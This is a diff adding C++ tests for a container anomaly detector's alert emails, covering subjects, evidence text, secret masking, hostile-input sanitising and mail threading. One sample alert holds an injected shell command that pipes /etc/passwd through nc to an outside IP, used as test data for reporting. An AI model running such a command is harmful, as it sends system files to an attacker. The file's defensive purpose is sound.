@@ -1,0 +1,180 @@
+#include <algorithm>
+
+#include <catch2/catch.hpp>
+
+#include "analyzer/notify/alert_view.h"
+#include "analyzer/notify/mail_html.h"
+#include "analyzer/notify/mail_message.h"
+#include "analyzer/notify/mail_text.h"
+#include "tests/support/hostile_text.h"
+#include "tests/support/sample_alerts.h"
+
+using namespace da;
+using Catch::Matchers::Contains;
+
+namespace {
+
+bool is_plain(const std::string& text) {
+  return std::all_of(text.begin(), text.end(), [](char c) { return c == '\n' || (c >= ' ' && c <= '~'); });
+}
+
+std::string text_of(const Notification& note, const Notices& notices = {}) {
+  return render_text(make_view(note, notices, {}));
+}
+
+/// Without line breaks and indents, to look for sentences.
+std::string flowing(const std::string& text) {
+  std::string flow;
+  for (const char c : text) {
+    if (c != '\n' && (c != ' ' || flow.empty() || flow.back() != ' ')) flow += c;
+    if (c == '\n' && !flow.empty() && flow.back() != ' ') flow += ' ';
+  }
+  return flow;
+}
+
+}  // namespace
+
+SCENARIO("the subject says where and what") {
+  const MailView view = make_view(test::command_injection(), {}, {});
+  REQUIRE(view.subject ==
+          "[docker-anomalies] web (shop:1.4) on host7: /bin/dash never seen in this image (+6 more)");
+  Notification one = test::command_injection();
+  one.counts.clear();
+  one.alerts = {test::python_departs()};
+  REQUIRE(make_view(one, {}, {}).subject ==
+          "[docker-anomalies] web (shop:1.4) on host7: python3.11 left its usual sequence of calls");
+}
+
+SCENARIO("the text says what happened, what led to it and what was expected") {
+  const std::string text = text_of(test::command_injection());
+  const std::string flow = flowing(text);
+  REQUIRE_THAT(text, Contains(">> 03:12:07.109  vfork() = 48211\n"));
+  REQUIRE_THAT(text, Contains(" | 03:12:07.107  pipe2("));
+  REQUIRE_THAT(text, Contains(" > 03:12:07.110  close(fd=13) = 0\n"));
+  REQUIRE_THAT(flow, Contains("never seen accept4 recvfrom stat pipe2 pipe2 vfork"));
+  REQUIRE_THAT(flow, Contains("instead of vfork: openat 91 %, sendto 6 %, close under 1 %, any other 2 %"));
+  REQUIRE_THAT(flow,
+               Contains("9, 3 times the threshold of 3; it counts unseen 6-grams among the last 20 calls"));
+  REQUIRE_THAT(flow, Contains("complete: no call of this thread was lost"));
+  REQUIRE_THAT(flow, Contains("/bin/dash was started by /usr/local/bin/python3.11."));
+  REQUIRE_THAT(flow, Contains("sh -c 'convert order.pdf; cat /etc/passwd|nc 203.0.113.9 4444'"));
+  REQUIRE_THAT(flow, Contains("alert id a-0b9e3f1d2c55"));
+  REQUIRE_THAT(flow, Contains("docker pause 4f66a1b2c3d4"));
+  REQUIRE_THAT(flow, Contains("docker logs -t --since 2026-11-24T03:11:07Z 4f66a1b2c3d4"));
+  REQUIRE_THAT(flow, Contains("/bin/dash: never seen in this image; 4 more, the last at 03:12:08"));
+
+  std::size_t longest = 0;
+  for (std::size_t begin = 0; begin < text.size();) {
+    const std::size_t end = text.find('\n', begin);
+    longest = std::max(longest, end - begin);
+    begin = end + 1;
+  }
+  REQUIRE(longest <= 78);
+}
+
+SCENARIO("a gap in the evidence is said loudly") {
+  Notification note = test::command_injection();
+  note.alerts[0].gap_free = false;
+  REQUIRE_THAT(text_of(note), Contains("INCOMPLETE"));
+}
+
+SCENARIO("secrets do not travel, unless asked for") {
+  Notification note = test::command_injection();
+  note.alerts[0].calls[0].text = "execve(filename=\"/bin/x\", argv=[\"x\", \"--token=abc123\"])";
+  REQUIRE_THAT(text_of(note), !Contains("hunter2") && !Contains("abc123"));
+  REQUIRE_THAT(render_html(make_view(note, {}, {})), !Contains("hunter2") && !Contains("abc123"));
+  ViewOptions open;
+  open.mask = false;
+  REQUIRE_THAT(render_text(make_view(note, {}, open)), Contains("hunter2") && Contains("abc123"));
+}
+
+SCENARIO("follow-ups and last mails say what they are") {
+  Notification note = test::command_injection();
+  note.sequence = 2;
+  note.total = 20;
+  REQUIRE_THAT(flowing(text_of(note)), Contains("Follow-up no. 2 of this incident, 20 alerts so far."));
+  note.alerts.clear();
+  note.closing = true;
+  REQUIRE_THAT(make_view(note, {}, {}).subject, Contains("quiet again after 20 alerts"));
+  REQUIRE_THAT(flowing(text_of(note)), Contains("the incident is closed"));
+  note.left_out = 12;
+  REQUIRE_THAT(flowing(text_of(note)), Contains("12 of these were never shown in full"));
+}
+
+SCENARIO("what happened to other mails is told") {
+  Notices notices;
+  notices.dropped_mails = 2;
+  notices.dropped_alerts = 9;
+  notices.uncertain = {"web on host7: x, alert a-1"};
+  notices.refused = {"web on host7: y: 554 \x1b[31mno"};
+  notices.repeats_uncertain = true;
+  const std::string text = flowing(text_of(test::command_injection(), notices));
+  REQUIRE_THAT(text, Contains("2 mails with 9 alerts could not be kept"));
+  REQUIRE_THAT(text, Contains("may or may not have reached you: web on host7: x, alert a-1"));
+  REQUIRE_THAT(text, Contains("refused this earlier mail: web on host7: y: 554 \\x1b[31mno"));
+  REQUIRE_THAT(text, Contains("You may have got this mail before"));
+}
+
+SCENARIO("a bare mail holds nothing that a container chose") {
+  Notification note = test::command_injection();
+  const std::string marker = "X5O!P%@AP";
+  note.container_name = marker;
+  note.image = marker;
+  for (Alert& alert : note.alerts) {
+    alert.executable = alert.command_line = alert.parent_executable = alert.image = marker;
+    for (EvidenceCall& call : alert.calls)
+      call.text = marker;
+  }
+  note.counts[0].executable = marker;
+  ViewOptions bare;
+  bare.bare = true;
+  const MailView view = make_view(note, {}, bare);
+  REQUIRE_THAT(render_text(view) + render_html(view) + view.subject, !Contains(marker));
+  REQUIRE_THAT(render_text(view),
+               Contains("a-0b9e3f1d2c55") && Contains("4f66a1b2c3d4") && Contains("host7"));
+}
+
+SCENARIO("no hostile value leaves its place") {
+  for (const std::string& value : test::hostile_texts()) {
+    const Notification note = test::hostile_notification(value);
+    const MailView view = make_view(note, {}, {});
+    REQUIRE(is_plain(view.subject));
+    REQUIRE(view.subject.find('\n') == std::string::npos);
+    REQUIRE(view.subject.size() < 400);
+    const std::string text = render_text(view);
+    REQUIRE(is_plain(text));
+    const std::string html = render_html(view);
+    REQUIRE(is_plain(html));
+    CAPTURE(value.substr(0, 40));
+    REQUIRE_THAT(html, !Contains("<script") && !Contains("<img") && !Contains("<a ") && !Contains("<!--"));
+    REQUIRE(text.size() < 40'000);
+    REQUIRE_THAT(text, !Contains("docker pause"));  // its container id is no id
+  }
+}
+
+SCENARIO("the same mail has the same bytes, and names its thread") {
+  Notification note = test::command_injection();
+  note.sequence = 2;
+  const MailHead head{*MailAddress::from("da@example.org"),
+                      {*MailAddress::from("ops@example.org")},
+                      "example.org",
+                      Moment(std::chrono::milliseconds(1'795'489'929'120)),
+                      note.incident + ".2",
+                      {note.incident + ".0", note.incident + ".1"},
+                      note.incident};
+  const std::string mail = compose_mail(make_view(note, {}, {}), head);
+  REQUIRE(mail == compose_mail(make_view(note, {}, {}), head));
+  REQUIRE_THAT(mail, Contains("\r\nMessage-ID: <inc-6b1f0c2ad94e7788.2@example.org>\r\n"));
+  REQUIRE_THAT(mail, Contains("\r\nIn-Reply-To: <inc-6b1f0c2ad94e7788.1@example.org>\r\n"));
+  REQUIRE_THAT(mail,
+               Contains("\r\nReferences: <inc-6b1f0c2ad94e7788.0@example.org>\r\n <inc-6b1f0c2ad94e7788.1@"));
+  REQUIRE_THAT(mail, Contains("\r\nAuto-Submitted: auto-generated\r\n"));
+}
+
+SCENARIO("a traced command without a container is named as one") {
+  Notification note = test::command_injection();
+  note.container_id.clear();
+  note.container_name.clear();
+  note.image.clear();
+  REQUIRE_THAT(make_view(note, {}, {}).subject, Contains("a traced command on host7"));
+}
